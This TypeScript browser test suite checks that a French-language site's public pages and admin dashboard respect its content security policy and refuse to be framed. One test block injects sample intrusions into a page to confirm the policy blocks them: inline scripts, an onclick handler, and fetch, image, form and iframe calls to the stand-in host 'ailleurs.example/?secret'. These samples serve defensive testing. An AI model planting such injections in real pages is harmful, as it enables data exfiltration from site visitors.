import type { AddressInfo } from 'node:net';
import { createServer, type Server } from 'node:http';
import { afterAll, describe, expect, it } from 'vitest';
import { detailsWords, listWords } from '../../web/src/content/dashboard/desk.ts';
import { exportFormats, exportWords } from '../../web/src/content/dashboard/exports.ts';
import { suite } from '../suite.ts';
import { imageBytes } from '../factories/image-bytes.ts';
import { control, editArticle, rows } from './articles-tab-page.ts';
import { useBrowser, whenAlive, wide, type VisitSettings } from './browser.ts';
import { anApplicant, details, newTag, searchField } from './desk-page.ts';
import { cards, describePhoto, jpegFile } from './galerie-tab-page.ts';
import { articleCards } from './news-page.ts';
import { loginScreen, section, sections } from './staff.ts';
import { watchedVisit } from './violations.ts';

const { visit } = useBrowser();
const watched = (path: string, settings?: VisitSettings) =>
  watchedVisit(visit, path, wide, settings);

describe('Nothing that opens on a public page breaks the content security policy:', () => {
  it('a photo in large', async () => {
    const { page, shows } = await watched('/galerie');
    await page
      .getByRole('button', { name: /^Agrandir : / })
      .first()
      .click();
    await page
      .getByRole('dialog', { name: 'Photo en grand' })
      .getByRole('img')
      .first()
      .waitFor();
    await shows('a photo in large');
  });

  it('an article', async () => {
    const { page, shows } = await watched('/blog');
    await articleCards(page).first().getByRole('link', { name: 'Lire la suite' }).click();
    await page.getByRole('article').getByRole('heading').first().waitFor();
    await shows('an article');
  });
});

describe('Nothing in the dashboard breaks the content security policy:', () => {
  const dashboard = (path: string) => watched(`/dashboard/${path}`, { as: 'superadmin' });

  it('the login', async () => {
    const { page, shows } = await watched('/dashboard');
    await loginScreen(page).waitFor();
    await shows('the login');
  });

  it('every section', async () => {
    const { page, shows } = await dashboard('');
    await sections(page).waitFor();
    for (const link of await sections(page).getByRole('link').all()) {
      await link.click();
      await page.getByRole('heading', { level: 1 }).waitFor();
      const loading = page.getByRole('main').getByText(/^Chargement/);
      await expect.poll(() => loading.filter({ visible: true }).count()).toBe(0);
      await shows(new URL(page.url()).pathname);
    }
  });

  it('a new article with its picture', async () => {
    const { page, shows } = await dashboard('articles');
    await rows(page).nth(1).waitFor();
    await page.getByRole('button', { name: 'Nouvel Article' }).first().click();
    await control(page, 'titre').waitFor();
    const file = jpegFile(await imageBytes({ width: 400, height: 300 }));
    await page.locator('input[type=file]').first().setInputFiles(file);
    await page
      .getByAltText(/aperçu/i)
      .first()
      .waitFor();
    await shows('a new article with its picture');
  });

  it('an article that is edited', async () => {
    const { page, shows } = await dashboard('articles');
    await rows(page).nth(1).waitFor();
    const titre = await rows(page)
      .nth(1)
      .locator('td:nth-child(2) > div:first-child')
      .innerText();
    await editArticle(page, titre.replace('Article principal', '').trim());
    await shows('an article that is edited');
  });

  it('the gallery, a photo that is added and one that is edited', async () => {
    const { page, shows } = await dashboard('galerie');
    await cards(page).first().waitFor();
    await describePhoto(page, jpegFile(await imageBytes({ width: 400, height: 300 })), 'Essai');
    await page.getByAltText('Aperçu de l’image').waitFor();
    await shows('a photo that is added');
    await cards(page)
      .first()
      .getByRole('button', { name: /^Modifier/ })
      .click();
    await page.getByRole('dialog').waitFor();
    await shows('a photo that is edited');
  });

  it('the testimonials, a new one and one that is edited', async () => {
    const { page, shows } = await dashboard('temoignages');
    await page.getByRole('button', { name: 'Nouveau témoignage' }).click();
    await page.locator('[name=prenom]').first().waitFor();
    await shows('a new testimonial');
    await page
      .getByRole('button', { name: /^Modifier/ })
      .first()
      .click();
    await page.getByRole('dialog').waitFor();
    await shows('a testimonial that is edited');
  });

  it('the users, a new one and one that is edited', async () => {
    const { page, shows } = await dashboard('users');
    await page.getByRole('button', { name: 'Nouvel utilisateur' }).click();
    await page.locator('[name=password]').first().waitFor();
    await shows('a new user');
    await page.getByRole('button', { name: 'Modifier lecture', exact: true }).click();
    await page.getByRole('dialog').waitFor();
    await shows('a user who is edited');
  });

  it('the applications, their details, their PDF and the exports', async () => {
    const someone = await anApplicant({ nom: newTag() });
    const { page, shows } = await dashboard(`inscriptions?fiche=${someone.id}`);
    await details(page, someone).getByText(someone.reference).waitFor();
    await shows('an application');
    const fiche = page.waitForEvent('download');
    await page.getByRole('button', { name: detailsWords.pdf }).click();
    await fiche;
    await shows('the PDF of an application');
    await page.keyboard.press('Escape');
    await searchField(page).fill(someone.form.nom);
    await page.getByRole('button', { name: listWords.details(someone.name) }).waitFor();
    for (const format of Object.values(exportFormats)) {
      const file = page.waitForEvent('download');
      await page.getByRole('button', { name: exportWords.menu, exact: true }).click();
      await page.getByRole('button', { name: format }).click();
      await file;
      await shows(format);
    }
    await section(page, 'Articles').click();
  });
});

describe('What somebody managed to put into a page', () => {
  const intrusions: Readonly<Record<string, string>> = {
    'script-src-elem': `const script = document.createElement('script');
      script.textContent = 'window.intruded = true';
      document.body.append(script);`,
    'script-src-attr': `const image = document.createElement('div');
      image.setAttribute('onclick', 'window.intruded = true');
      document.body.append(image);
      image.click();`,
    'connect-src': `fetch('https://ailleurs.example/?secret').catch(() => undefined);`,
    'img-src': `new Image().src = 'https://ailleurs.example/?secret';`,
    'frame-src': `const frame = document.createElement('iframe');
      frame.src = 'https://ailleurs.example/';
      document.body.append(frame);`,
    'form-action': `const form = document.createElement('form');
      form.action = 'https://ailleurs.example/';
      document.body.append(form);
      form.submit();`,
    'base-uri': `const base = document.createElement('base');
      base.href = 'https://ailleurs.example/';
      document.head.append(base);`,
    'object-src': `const object = document.createElement('object');
      object.data = '/emblem.svg';
      document.body.append(object);`,
    'worker-src': `try { new Worker('data:text/javascript,1'); } catch {}`,
    'style-src-elem': `const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://ailleurs.example/x.css';
      document.head.append(link);`,
  };

  it('is stopped and said, whatever it is', async () => {
    const { page, violations, expectComplaint } = await watched('/contact');
    await whenAlive(page);
    expect(violations).toEqual([]);
    expectComplaint(/^Fetch API cannot load https:\/\/ailleurs\.example/);
    for (const [directive, script] of Object.entries(intrusions)) {
      const named = directive.replace(/-(elem|attr)$/, '');
      expectComplaint(new RegExp(`violates the following .* directive:? ["']${named} `));
      await page.evaluate(script);
      await expect.poll(() => violations.join()).toContain(directive);
      expect(await page.evaluate('window.intruded'), directive).toBeUndefined();
    }
  });
});

describe('A site that puts pages into frames', () => {
  const open: Server[] = [];
  afterAll(() => {
    for (const server of open) server.close();
  });

  /** Another site, whose front page frames `addresses` beside a page of its own. */
  async function siteFraming(addresses: readonly string[]): Promise<string> {
    const server = createServer(({ url }, response) => {
      const frames = ['/own', ...addresses].map((src) => `<iframe src="${src}"></iframe>`);
      response.setHeader('Content-Type', 'text/html');
      response.end(url === '/own' ? '<h1>Own</h1>' : frames.join(''));
    });
    open.push(server);
    await new Promise<void>((resolve) => {
      server.listen(0, suite.host, resolve);
    });
    const { port } = server.address() as AddressInfo;
    return `http://${suite.host}:${port}/`;
  }

  it('shows its own, and none of ours', async () => {
    const ours = ['/', '/dashboard', '/inscription'];
    const { page, complaints, expectComplaint } = await visit('about:blank', wide);
    expectComplaint(/^Framing .* violates .* "frame-ancestors 'none'"/);
    await page.goto(await siteFraming(ours.map((path) => suite.origin('hosting') + path)));
    const [, own, ...framed] = page.frames();
    await own?.locator('h1').waitFor();
    await expect
      .poll(() => framed.map((frame) => frame.url().split(':')[0]))
      .toEqual(ours.map(() => 'chrome-error'));
    await expect.poll(() => complaints.length).toBe(ours.length);
  });
});
